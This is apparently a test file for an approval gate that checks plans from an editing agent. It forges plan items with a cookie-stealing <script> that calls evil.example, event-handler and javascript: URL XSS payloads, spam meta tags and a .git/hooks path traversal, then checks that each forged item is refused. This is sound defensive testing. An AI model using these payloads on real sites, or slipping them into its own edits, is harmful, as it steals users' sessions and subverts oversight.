/**
 * The gate judges what an action does, not what it is called. Plans forged
 * as an agent with write access to the run dir would: an item of an
 * auto-approved action (set-lang, fix-broken-link, add-meta-description,
 * delete-note) whose edit was changed to do more, with its sha256_after, key,
 * id and the plan's checksum recomputed. `gate review` and `gate approve`
 * refuse each (PLAN_INVALID, exit 3) naming the item and what exceeded, and
 * an apply of such an item signed anyway writes nothing. Real sites, a real
 * git repository, the compiled binaries.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { readFileSync, realpathSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { signApproval } from "../../src/kit/mutations/approval.ts";
import { approvalIdOf } from "../../src/kit/mutations/admit.ts";
import { idempotencyKey, planChecksum } from "../../src/kit/mutations/plan.ts";
import { sha256 } from "../../src/kit/pipeline/hash.ts";
import { applyEdits } from "../../tools/seo/lib/edits.ts";
import { removeWorkspaces, snapshot, workspace, type Workspace } from "../helpers/mutation.ts";
import { knowledgeBase } from "../helpers/notes-repo.ts";
import { SLOW_HOOK } from "../helpers/hooks.ts";

afterAll(removeWorkspaces, SLOW_HOOK);

const planPath = (runDir: string) => join(runDir, "plan.json");
const readPlan = (runDir: string) => JSON.parse(readFileSync(planPath(runDir), "utf8"));

/** Writes the plan back with every item's key and id, and the plan's checksum, recomputed: what an attacker can always do. */
function reseal(runDir: string, plan: any): void {
  for (const it of plan.items) {
    it.idempotency_key = idempotencyKey(plan.tool, it.action, plan.context, it.params);
    it.id = `it-${it.idempotency_key.slice("sha256:".length, "sha256:".length + 12)}`;
  }
  const { checksum: _c, policy_version: _p, approval_id: _a, approval: _ap, ...body } = plan;
  plan.checksum = planChecksum(body);
  writeFileSync(planPath(runDir), JSON.stringify(plan));
}

/**
 * The first `action` item of the seo plan, changed by `change` (given its
 * params and the page it edits) with its sha256_after recomputed; the plan resealed.
 */
function forgeSeo(ws: Workspace, action: string, change: (params: any, page: string) => void): any {
  const plan = readPlan(ws.run);
  const it = plan.items.find((i: any) => i.action === action);
  const page = readFileSync(join(ws.site, it.params.file), "utf8");
  expect(sha256(page)).toBe(it.preconditions[0].version); // the first item on its page: it finds the page as it is
  change(it.params, page);
  const after = applyEdits(page, it.params.edits);
  if (typeof after !== "string") throw new Error("the forged edit does not fit");
  it.params.sha256_after = sha256(after);
  reseal(ws.run, plan);
  return plan.items.find((i: any) => i.params === it.params);
}

async function planned(): Promise<Workspace> {
  const ws = await workspace({});
  expect((await ws.seo(["plan", "--run-dir", ws.run])).code).toBe(0);
  return ws;
}

/** Both gate commands refuse the plan (PLAN_INVALID, exit 3), naming the item; the review's message. */
async function refusedByGate(gate: (args: string[]) => Promise<any>, runDir: string, item: string): Promise<string> {
  let said = "";
  for (const verb of [["review"], ["approve"]]) {
    const r = await gate([...verb, "--plan", runDir]);
    expect([verb[0], r.code, r.json.error?.code]).toEqual([verb[0], 3, "PLAN_INVALID"]);
    expect(r.json.error.message).toContain(item);
    said ||= r.json.error.message;
  }
  expect(readPlan(runDir).approval).toBeNull();
  return said;
}

const SCRIPT = ` lang="en"><script>fetch("https://evil.example/"+document.cookie)</script`;

describe("the gate refuses an seo item whose edit does more than its action may", () => {
  test("a set-lang item whose edit inserts a <script> (sha256_after, key and checksum recomputed): refused by review and approve, with the reason", async () => {
    const ws = await planned();
    const it = forgeSeo(ws, "set-lang", (p) => (p.edits[0].insert = SCRIPT));
    const said = await refusedByGate(ws.gate, ws.run, it.id);
    console.log(`gate review: ${said}`);
    expect(said).toContain("set-lang");
    expect(said).toContain("<script> element");
  });

  test("an event-handler attribute in a set-lang edit: refused, naming the event handler", async () => {
    const ws = await planned();
    const it = forgeSeo(ws, "set-lang", (p) => (p.edits[0].insert = ` lang="en" onmouseover="steal()"`));
    expect(await refusedByGate(ws.gate, ws.run, it.id)).toContain("an event-handler attribute");
  });

  test("a fix-broken-link item repointed at a javascript: URL (also written with character references): refused", async () => {
    for (const to of ["javascript:alert(document.cookie)", "jav&#x09;ascript&colon;alert(1)"]) {
      const ws = await planned();
      const it = forgeSeo(ws, "fix-broken-link", (p) => {
        p.to = to;
        for (const e of p.edits) e.insert = to;
      });
      expect(await refusedByGate(ws.gate, ws.run, it.id)).toContain("a javascript: URL");
    }
  });

  test("edits outside the declared element: a set-lang that also rewrites the title, an add-meta-description with words not from the page", async () => {
    const ws = await planned();
    const it = forgeSeo(ws, "set-lang", (p, page) => {
      const title = page.indexOf("<title>");
      p.edits.push({ at: title, remove: "<title>", insert: "<title>Cheap pills | " });
    });
    expect(await refusedByGate(ws.gate, ws.run, it.id)).toContain("it makes 2 edit(s) where set-lang makes 1");

    const ws2 = await planned();
    const plan = readPlan(ws2.run);
    // The description is the fourth item on about.html: forge the first three away, so it is the first.
    const description = plan.items.find((i: any) => i.action === "add-meta-description");
    plan.items = plan.items.filter((i: any) => i.params.file !== description.params.file || i === description);
    description.preconditions[0].version = sha256(readFileSync(join(ws2.site, description.params.file), "utf8"));
    reseal(ws2.run, plan);
    const it2 = forgeSeo(ws2, "add-meta-description", (p, page) => {
      const at = page.indexOf("</title>") + "</title>".length;
      p.edits = [{ at, remove: "", insert: `\n  <meta name="description" content="Cheap pills at pills.example">` }];
    });
    expect(await refusedByGate(ws2.gate, ws2.run, it2.id)).toContain("where add-meta-description replaces");
  });

  test("signed anyway (the gate's key misused): apply refuses the <script> item before writing it (PLAN_INVALID), and the page is untouched", async () => {
    const ws = await planned();
    const it = forgeSeo(ws, "set-lang", (p) => (p.edits[0].insert = SCRIPT));
    const plan = readPlan(ws.run);
    const roots = { root: realpathSync(plan.context.root) };
    const signature = signApproval(ws.env.AGENT_GATE_PRIVATE_KEY!, "AGENT_GATE_PRIVATE_KEY", {
      checksum: plan.checksum,
      policyVersion: "p1",
      expiry: plan.expiry,
      roots,
    });
    Object.assign(plan, {
      policy_version: "p1",
      approval_id: approvalIdOf(signature),
      approval: {
        checksum: plan.checksum,
        policy_version: "p1",
        expiry: plan.expiry,
        roots,
        mode: "policy",
        approved_by: "policy p1",
        approved_at: plan.created_at,
        signature,
      },
    });
    writeFileSync(planPath(ws.run), JSON.stringify(plan));
    const before = readFileSync(join(ws.site, it.params.file), "utf8");
    const r = await ws.seo(["apply", "--plan", ws.run]);
    expect([r.code, r.json.error?.code]).toEqual([3, "PLAN_INVALID"]);
    const mine = r.json.error.detail.items.find((i: any) => i.id === it.id);
    expect([mine.outcome, mine.executed, mine.error.code]).toEqual(["failed", false, "PLAN_INVALID"]);
    expect(readFileSync(join(ws.site, it.params.file), "utf8")).toBe(before);
    expect(snapshot(ws.site)[it.params.file]).not.toContain("<script>");
  });

  test("the honest plan still passes review, and applies", async () => {
    const ws = await planned();
    expect((await ws.gate(["review", "--plan", ws.run])).code).toBe(0);
    expect((await ws.seo(["apply", "--plan", ws.run])).code).toBe(0);
  });
});

describe("brain's note actions touch only their own note", () => {
  test("a delete-note item whose id was changed to another note (target left as planned): refused by review and approve; nothing committed", async () => {
    const k = knowledgeBase();
    expect((await k.brain(["note", "delete", "--id", "winter-care", "--run-dir", k.run])).code).toBe(0);
    const plan = readPlan(k.run);
    plan.items[0].params.id = "harbour-history";
    reseal(k.run, plan);
    const head = k.git("rev-parse", "HEAD");
    const said = await refusedByGate(k.gate, k.run, plan.items[0].id);
    expect(said).toContain('writes notes/harbour-history.md but is judged and guarded as ["winter-care"]');
    expect(k.git("rev-parse", "HEAD")).toBe(head);
  });

  test("an update-note item carrying a field the action does not write: refused", async () => {
    const k = knowledgeBase();
    expect(
      (await k.brain(["note", "update", "--id", "winter-care", "--title", "Winter", "--run-dir", k.run])).code,
    ).toBe(0);
    const plan = readPlan(k.run);
    plan.items[0].params.path = "../.git/hooks/post-commit";
    reseal(k.run, plan);
    expect(await refusedByGate(k.gate, k.run, plan.items[0].id)).toContain("its params carry path");
  });
});
